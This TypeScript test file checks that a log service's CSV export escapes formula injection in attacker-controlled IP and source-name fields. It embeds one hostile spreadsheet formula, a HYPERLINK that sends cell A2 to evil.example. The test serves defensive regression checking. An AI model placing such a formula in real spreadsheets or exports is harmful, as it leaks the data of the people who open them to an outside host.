/**
 * Issue 13, finding 6: formula injection in GET /features/export. Log fields (an IP) and source
 * names are attacker-controlled; the export must hand them to a spreadsheet as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_HEADER } from '../../../src/main/features/export';
import { request, startTestServer, type TestServer } from '../../helpers/http';
import { HOSTILE_VALUES, readCsv } from './csvAttack';

describe('GET /features/export with hostile log fields', () => {
  let s: TestServer;
  beforeAll(async () => (s = await startTestServer()));
  afterAll(async () => s?.close());

  it('writes every hostile IP and source name as a text cell: an apostrophe, then the value', async () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"upload")';
    const body = HOSTILE_VALUES.map(
      (ip, k) =>
        JSON.stringify({ ip, timestamp: `2023-10-12T10:00:${String(k).padStart(2, '0')}Z`, status: 200, path: '/x' }) +
        '\n',
    ).join('');
    const up = await request(s.port, 'POST', `/ingest?name=${encodeURIComponent(name)}&format=jsonl`, {
      headers: { Authorization: `Bearer ${s.token}`, 'Content-Type': 'application/x-ndjson' },
      body,
    });
    expect(up.status).toBe(200);
    expect(up.json()).toMatchObject({ lines: HOSTILE_VALUES.length, parseErrors: 0 });
    // The attack reached the store as sent.
    expect(s.engine.db.prepare('SELECT ip FROM logs ORDER BY line_no').pluck().all()).toEqual(HOSTILE_VALUES);

    const res = await s.call('GET', '/features/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...rows] = readCsv(res.text);
    expect(header).toEqual(EXPORT_HEADER.split(','));
    expect(rows.map((r) => r[0])).toEqual(HOSTILE_VALUES.map(() => `'${name}`));
    expect(rows.map((r) => r[2])).toEqual(HOSTILE_VALUES.map((ip) => `'${ip}`));
    // The numeric columns are written as numbers.
    for (const r of rows) expect(r.slice(3).every((cell) => /^\d+$/.test(cell))).toBe(true);
  });
});
